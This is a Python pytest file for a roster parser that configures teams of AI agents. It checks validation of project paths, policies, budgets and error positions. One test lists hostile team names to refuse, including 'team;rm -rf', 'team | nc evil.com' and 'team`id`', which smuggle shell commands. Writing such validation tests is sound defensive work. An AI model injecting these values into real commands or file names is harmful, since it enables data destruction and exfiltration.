"""A roster is parsed completely or refused with a position."""

import json
from decimal import Decimal
from pathlib import Path

import pytest

from holdfast.core import Limits
from holdfast.core.errors import InvalidConfig
from holdfast.store import Home
from holdfast.teams import TeamsSettings, load_roster
from holdfast.teams.config.parse import parse_roster


def write(tmp_path: Path, text: str, name: str = "teams.yaml") -> Path:
    (tmp_path / "front end").mkdir(exist_ok=True)
    (tmp_path / "backend").mkdir(exist_ok=True)
    path = tmp_path / name
    path.write_text(text.replace("HERE", str(tmp_path)))
    return path


def test_a_roster_lists_teams_and_who_may_ask_whom(tmp_path: Path) -> None:
    roster = load_roster(
        write(
            tmp_path,
            """\
settings:
  max_processes: 3
  idle_seconds: 1.5
  budget: {tokens: 1000, cost_usd: 0.1}
teams:
  frontend:
    project: HERE/front end
    description: Draws what people see
    member: claude
    environment: [ANTHROPIC_API_KEY]
    color: "#E91E63"
  backend:
    project: HERE/backend
    policy: safe-edit
    asked_by: [frontend, external]
""",
        )
    )
    assert roster.settings == TeamsSettings(
        max_processes=3, idle_seconds=1.5, budget=Limits(tokens=1000, cost_usd=Decimal("0.1"))
    )
    assert roster.team("frontend").member == "claude"
    assert roster.team("frontend").environment == ("ANTHROPIC_API_KEY",)
    assert roster.team("backend").asked_by == ("frontend", "external")
    assert roster.team("backend").policy == "safe-edit"


@pytest.mark.parametrize("name", ["frontend", "team@example", "a.b_c-9"])
def test_a_team_has_a_name_of_one_word(tmp_path: Path, name: str) -> None:
    assert load_roster(write(tmp_path, f"teams:\n  {name}: {{project: HERE}}")).team(name).name == name


@pytest.mark.parametrize(
    "name",
    ["", "team/../etc", "team..etc", "team;rm -rf", "team && echo bad", "team | nc evil.com", "team name", "@team", "team`id`", "a" * 65],
)  # fmt: skip
def test_a_name_that_a_shell_or_a_path_would_read_otherwise_is_refused(tmp_path: Path, name: str) -> None:
    with pytest.raises(InvalidConfig, match="is not a valid team name"):
        load_roster(write(tmp_path, f"teams:\n  {json.dumps(name)}: {{project: HERE}}"))


def test_an_acp_team_has_a_program_arguments_variables_and_a_mode(tmp_path: Path) -> None:
    text = """\
teams:
  helper:
    project: HERE
    member: acp
    program: goose
    arguments: [acp]
    mode: approve
    gate: asks
    environment: [ANTHROPIC_API_KEY]
    variables: {GOOSE_PROVIDER: anthropic}
"""
    team = load_roster(write(tmp_path, text)).team("helper")
    assert (team.program, team.arguments, team.mode, team.gate) == ("goose", ("acp",), "approve", "asks")
    assert (team.environment, team.variables) == (("ANTHROPIC_API_KEY",), {"GOOSE_PROVIDER": "anthropic"})


def test_the_legacy_teams_json_is_read_with_its_own_names(tmp_path: Path) -> None:
    text = """\
{
\t"settings": {"idleTimeout": 300000, "maxProcesses": 10, "healthCheckInterval": 30000},
\t"teams": {"frontend": {"project": "HERE/backend", "path": "HERE/backend", "description": "Frontend team",
\t                      "skipPermissions": false, "color": "#E91E63"}}
}
"""
    roster = load_roster(write(tmp_path, text, "teams.json"))
    assert roster.settings == TeamsSettings(idle_seconds=300, max_processes=10, health_seconds=30)
    assert roster.team("frontend").project == str(tmp_path / "backend")


def test_f30_the_teams_json_of_iris_loads_as_it_stands(tmp_path: Path) -> None:
    text = """\
{
  "settings": {
    "idleTimeout": 300000,
    "maxProcesses": 10,
    "healthCheckInterval": 30000
  },
  "teams": {
    "frontend": {
      "project": "HERE/front end",  // REQUIRED - case-sensitive
      "path": "HERE/front end",      // DEPRECATED but kept for compatibility
      "description": "Frontend team, see http://localhost",
      "skipPermissions": true,
      "color": "#E91E63"
    },
    "backend": {"project": "HERE/backend", "description": null, "skipPermissions": null, "policy": "safe-edit"}
  }
}
"""
    roster = load_roster(write(tmp_path, text, "teams.json"))
    frontend, backend = roster.team("frontend"), roster.team("backend")
    assert (frontend.member, frontend.policy, frontend.color) == ("claude", "project", "#E91E63")
    assert frontend.description == "Frontend team, see http://localhost"
    assert (backend.member, backend.description, backend.policy) == ("claude", "", "safe-edit")
    (note,) = roster.notes
    assert "'frontend': skipPermissions has no effect; the policy 'project' decides" in note
    with pytest.raises(InvalidConfig, match=r"teams\.json:12:26: expected true or false"):
        load_roster(write(tmp_path, text.replace('ions": true', 'ions": 1'), "teams.json"))


@pytest.mark.parametrize(
    ("text", "position", "words"),
    [
        ("", "1:1", "is empty"),
        ("teams: [", "", "is not valid YAML"),
        ("settings: {}", "1:1", "no field 'teams'"),
        ("teams:\n  a: {}", "2:3", "no field 'project'"),
        ("teams:\n  a:\n    project: rel", "3:14", "absolute"),
        ("teams:\n  a:\n    project: HERE/../etc", "3:14", "must not contain '..'"),
        ("teams:\n  a:\n    project: HERE/missing", "3:14", "is not a folder"),
        ("teams:\n  a:\n    project: HERE/teams.yaml", "3:14", "is not a folder"),
        ("teams:\n  external: {project: HERE}", "2:3", "is a reserved name"),
        ("teams:\n  a/b: {project: HERE}", "2:3", "is not a valid team name"),
        ("teams:\n  a: {project: HERE}\n  a: {project: HERE}", "3:3", "a second time"),
        ("teams:\n  a: {project: HERE, projct: x}", "2:", "has no field 'projct'"),
        ("teams:\n  a: {project: HERE, member: gpt}", "2:", "is not a kind of member"),
        ("teams:\n  a: {project: HERE, color: red}", "2:", "is not a colour"),
        ("teams:\n  a: {project: HERE, environment: [A=b]}", "2:", "is not a variable name"),
        ("teams:\n  a: {project: HERE, skipPermissions: true}", "2:", "without a decision of the policy"),
        ("teams:\n  a: {project: HERE, asked_by: [b]}", "2:", "there is no team 'b'"),
        ("teams:\n  a: {project: HERE, budget: {tokens: -1}}", "2:", "expected a number"),
        ("teams:\n  a: {project: HERE, member: acp, gate: asks}", "2:3", "no field 'program'"),
        (
            "teams:\n  a: {project: HERE, member: acp, program: goose}",
            "2:",
            "only about the tools it chooses",
        ),
        ("teams:\n  a: {project: HERE, gate: never}", "2:", "is not a gate mode"),
        ("teams:\n  a: {project: HERE, variables: {A-B: x}}", "2:", "is not a variable name"),
        ("teams:\n  a: {project: HERE, variables: {A: 1}}", "2:", "expected text"),
        ("teams: {}\nsettings: {awake_at_start: -1}", "2:28", "from 0 to 1000"),
        ("teams: {}\nsettings: {max_processes: 0}", "2:27", "from 1 to 1000"),
        ("teams: {}\nsettings: {max_processes: true}", "2:27", "from 1 to 1000"),
        ("teams: {}\nsettings: {max_processes: 1.5}", "2:27", "whole"),
        ("teams: {}\nsettings: {idle_seconds: 1, idleTimeout: 1000}", "2:", "the same value as another"),
        ("a: &x {}\nb: *x", "1:4", "anchors"),
    ],
)
def test_an_invalid_roster_is_refused_with_its_position(
    tmp_path: Path, text: str, position: str, words: str
) -> None:
    with pytest.raises(InvalidConfig, match=words) as caught:
        load_roster(write(tmp_path, text))
    assert f"teams.yaml:{position}" in str(caught.value)


def test_invalid_json_is_reported_with_its_position(tmp_path: Path) -> None:
    with pytest.raises(InvalidConfig, match=r"teams\.json:2:3: is not valid JSON"):
        load_roster(write(tmp_path, '{"teams": {},\n  }', "teams.json"))


def test_a_missing_roster_says_how_to_create_one(tmp_path: Path) -> None:
    with pytest.raises(InvalidConfig) as caught:
        load_roster(tmp_path / "teams.yaml")
    assert caught.value.hint == "create one with: holdfast teams init"


def test_strings_without_an_end_are_refused_at_once(tmp_path: Path) -> None:
    text = '{"teams": ' + '\\"}' * 250_000
    with pytest.raises(InvalidConfig, match="is not valid JSON"):
        parse_roster(text, source="teams.json", home=Home(tmp_path))
